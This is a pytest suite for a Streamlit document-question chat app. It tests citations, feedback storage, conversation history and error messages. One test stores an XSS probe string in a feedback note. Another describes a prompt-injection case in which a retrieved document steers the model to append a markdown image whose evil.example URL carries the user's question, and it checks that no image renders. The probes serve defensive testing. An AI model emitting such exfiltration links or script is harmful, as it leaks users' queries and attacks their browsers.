"""The real Streamlit app (AppTest) over the sample documents, the packaged models and DynamoDB Local."""

from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from app.literal import literal
from pipeline.feedback import make_store

pytestmark = pytest.mark.slow

APP = Path(__file__).resolve().parents[1] / "app" / "main.py"
QUESTION = "What is the basic design wind speed?"


@pytest.fixture
def app_env(dynamo_settings, prepared_models, sample_index, monkeypatch):
    """The app's settings: this test's data directory (samples indexed, model prepared) and tables."""
    sample_index.close()
    monkeypatch.setenv("PLUMB_MAX_NEW_TOKENS", "32")
    st.cache_resource.clear()
    yield dynamo_settings
    st.cache_resource.clear()


def open_app(user: str | None = "alice") -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=180)
    if user:
        at.query_params["user"] = user
    return at.run()


def ask(at: AppTest, question: str = QUESTION) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def test_dev_mode_asks_for_a_name_once(app_env):
    at = open_app(user=None)
    assert at.text_input[0].label == "Your name"
    at.text_input[0].input("carol")
    at.button[0].click().run()
    assert at.query_params["user"] == ["carol"] or at.query_params["user"] == "carol"
    assert at.chat_input, "the chat opens once the name is known"


def test_question_streams_an_answer_with_page_citations(app_env):
    at = ask(open_app())
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    labels = [expander.label for expander in at.expander]
    assert "[1] design\\-criteria\\.pdf – page 3" in labels, "shown literally (app/literal.py)"
    assert any("Answered by SmolLM2-135M-Instruct" in caption.value for caption in at.caption)
    turns = make_store(app_env).session_turns(at.session_state["session_id"])
    assert [turn.question for turn in turns] == [QUESTION]
    assert turns[0].citations[0].page == 3 and turns[0].user == "alice"


def test_empty_index_says_how_to_add_documents(dynamo_settings, prepared_models):
    st.cache_resource.clear()
    at = open_app()
    assert "No documents are indexed yet" in at.info[0].value
    assert not at.chat_input
    st.cache_resource.clear()


def test_rating_with_note_and_correction_is_stored_against_the_turn(app_env):
    at = ask(open_app())
    at.feedback[0].set_value(0).run()
    assert any("strongly disagree" in caption.value for caption in at.caption)
    correction = at.text_area(key=next(a.key for a in at.text_area if a.key.startswith("correction-")))
    turn_id = correction.key.removeprefix("correction-")
    assert correction.value.strip(), "the correction is offered pre-filled with the bot's answer"
    at.text_area(key=f"note-{turn_id}").input("<script>alert(1)</script> see page 3")
    correction.input("The basic design wind speed is 120 mph, Exposure C.")
    at.checkbox(key=f"flag-{turn_id}-1").check()
    at.button(key=f"save-{turn_id}").click().run()
    assert not at.exception
    assert at.success[0].value == "Thank you, your feedback is saved."
    stored = make_store(app_env).latest_feedback(turn_id, "alice")
    assert (stored.rating, stored.rating_label) == (1, "strongly disagree")
    assert stored.note == "<script>alert(1)</script> see page 3"
    assert stored.correction == "The basic design wind speed is 120 mph, Exposure C."
    assert stored.flagged_citations == [1] and stored.version == 1
    assert any(text.value == "Note: <script>alert(1)</script> see page 3" for text in at.text), "shown as text"


def test_changing_feedback_keeps_the_earlier_version(app_env):
    at = ask(open_app())
    turn_id = at.session_state["turns"][0].turn_id
    at.feedback[0].set_value(4).run()
    at.button(key=f"save-{turn_id}").click().run()
    assert not at.feedback, "once saved, the form steps aside"
    at.button(key=f"change-{turn_id}").click().run()
    at.feedback[0].set_value(1).run()
    at.button(key=f"save-{turn_id}").click().run()
    history = make_store(app_env).feedback_history(turn_id, "alice")
    assert [(f.version, f.rating) for f in history] == [(1, 5), (2, 2)]


def test_emptied_correction_is_refused_and_nothing_is_stored(app_env):
    at = ask(open_app())
    turn_id = at.session_state["turns"][0].turn_id
    at.feedback[0].set_value(1).run()
    at.text_area(key=f"correction-{turn_id}").input("   ")
    at.button(key=f"save-{turn_id}").click().run()
    assert "corrected answer is empty" in at.error[0].value
    assert make_store(app_env).latest_feedback(turn_id, "alice") is None


def test_an_answer_that_could_not_be_stored_cannot_be_rated(app_env, monkeypatch):
    monkeypatch.setenv("PLUMB_TABLE_PREFIX", "never-made-")
    from pipeline.settings import get_settings

    get_settings.cache_clear()
    at = ask(open_app()).run()
    assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"], "the answer is still shown"
    [error] = at.error
    assert error.value.startswith("This answer could not be stored, so it cannot be rated:")
    assert "run `plumb db init`" in error.value
    assert not at.feedback and not [b for b in at.button if b.key and b.key.startswith("save-")]


def test_sidebar_lists_only_the_users_own_conversations(app_env):
    ask(open_app("alice"))
    bob = open_app("bob")
    assert not [b for b in bob.sidebar.button if b.key and b.key.startswith("conv-")]
    alice = open_app("alice")
    from datetime import UTC, datetime

    today = datetime.now(UTC).strftime("%d %b %Y")
    # the date first, so a long title cannot hide it; the title shown literally (app/literal.py)
    assert [b.label for b in alice.sidebar.button if b.key and b.key.startswith("conv-")] == [f"{today} · {literal(QUESTION)}"]


def test_model_endpoint_down_is_a_clear_message(app_env, monkeypatch):
    monkeypatch.setenv("PLUMB_LLM_BACKEND", "openai")
    monkeypatch.setenv("PLUMB_LLM_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("PLUMB_LLM_MAX_RETRIES", "0")
    from pipeline.settings import get_settings

    get_settings.cache_clear()
    at = ask(open_app())
    assert "not answering" in at.error[0].value
    assert make_store(app_env).user_sessions("alice") == []


def test_an_answered_turn_is_judged_in_the_background_when_online_judging_is_on(app_env, monkeypatch):
    from app import services
    from pipeline.feedback.dynamo import DynamoFeedbackStore
    from pipeline.judge.online import OnlineJudge
    from tests.test_judge import VERDICT, judge_with

    online = OnlineJudge(judge_with(VERDICT), make_store(app_env))
    monkeypatch.setattr(services, "online_judge", lambda: online)
    at = ask(open_app())
    online.close()
    [judgement] = DynamoFeedbackStore(app_env).judgements()
    [turn] = make_store(app_env).session_turns(at.session_state["session_id"])
    assert (judgement.turn_id, judgement.reference_kind, judgement.score) == (turn.turn_id, "none", 4.5)


def test_an_answer_steered_to_carry_an_image_shows_no_image(app_env, monkeypatch):
    """A document can tell the model to append an image whose URL carries the question: the answer
    is shown with the URL as text, never as an image the browser would load."""
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage

    from app import services
    from pipeline.chain import RagChain
    from pipeline.retriever import IndexRetriever

    leak = "https://evil.example/collect?q=basic-design-wind-speed"
    steered = GenericFakeChatModel(messages=iter([AIMessage(f"The basic wind speed is 115 mph [1]. ![status]({leak})")]))
    retriever = IndexRetriever(index=services.index(), embedder=services.embedder(), k=3)
    monkeypatch.setattr(services, "chain", lambda: RagChain(steered, retriever, "steered", 0.0))
    at = ask(open_app())
    [shown] = [html.proto.body for html in at.get("html") if "plumb-answer" in html.proto.body]
    assert "<img" not in shown and leak in shown


def answering(monkeypatch, *texts: str) -> None:
    """The app's chain answers with `texts` in turn (a fake model) over the real index."""
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage

    from app import services
    from pipeline.chain import RagChain
    from pipeline.retriever import IndexRetriever

    model = GenericFakeChatModel(messages=iter([AIMessage(text) for text in texts]))
    retriever = IndexRetriever(index=services.index(), embedder=services.embedder(), k=3)
    monkeypatch.setattr(services, "chain", lambda: RagChain(model, retriever, "fake", 0.0))


def test_cited_passages_come_first_and_the_others_under_also_retrieved(app_env, monkeypatch):
    answering(monkeypatch, "The basic design wind speed is 120 mph [2][9].")
    at = ask(open_app())
    labels = [expander.label for expander in at.expander]
    turn = at.session_state["turns"][0]
    assert labels[0] == f"[2] {literal(turn.citations[1].label())}"
    assert labels[1:] == [f"[1] {literal(turn.citations[0].label())}", f"[3] {literal(turn.citations[2].label())}"]
    captions = [caption.value for caption in at.caption]
    assert captions.index("Cited in the answer") < captions.index("Also retrieved")
    [shown] = [html.proto.body for html in at.get("html") if "plumb-answer" in html.proto.body]
    assert f'href="document?chunk={turn.citations[1].chunk_id}&amp;user=alice"' in shown, "the marker links to its page"
    assert "[9]" in shown and shown.count("plumb-cite") == 1


def test_an_answer_citing_nothing_says_so(app_env, monkeypatch):
    answering(monkeypatch, "The basic design wind speed is 120 mph.")
    at = ask(open_app())
    captions = [caption.value for caption in at.caption]
    assert "The answer cites none of the passages." in captions and "Also retrieved" in captions
    assert len(at.expander) == 3


def test_a_conversation_restricted_to_one_document_cites_only_it_and_keeps_the_choice(app_env):
    at = open_app()
    picker = at.sidebar.multiselect[0]
    assert picker.label == "Ask within" and "concrete-spec.md" in picker.options
    picker.set_value(["concrete-spec.md"]).run()
    ask(at)
    turn = at.session_state["turns"][0]
    assert turn.citations and {c.source for c in turn.citations} == {"concrete-spec.md"}
    assert f"Asked within: {literal('concrete-spec.md')}" in [caption.value for caption in at.caption]
    [stored] = make_store(app_env).session_turns(turn.session_id)
    assert stored.scope == ["concrete-spec.md"]
    reopened = AppTest.from_file(str(APP), default_timeout=180)
    reopened.query_params["user"] = "alice"
    reopened.query_params["conversation"] = turn.session_id
    assert reopened.run().sidebar.multiselect[0].value == ["concrete-spec.md"], "the choice comes back with the conversation"


def test_a_whitespace_question_gets_a_message_and_nothing_is_asked(app_env):
    at = open_app()
    at.chat_input[0].set_value(" \n\t ").run()
    assert not at.exception, at.exception
    assert at.warning[0].value == "The question is empty: type a question about the documents."
    assert not at.chat_message and not at.session_state["turns"]
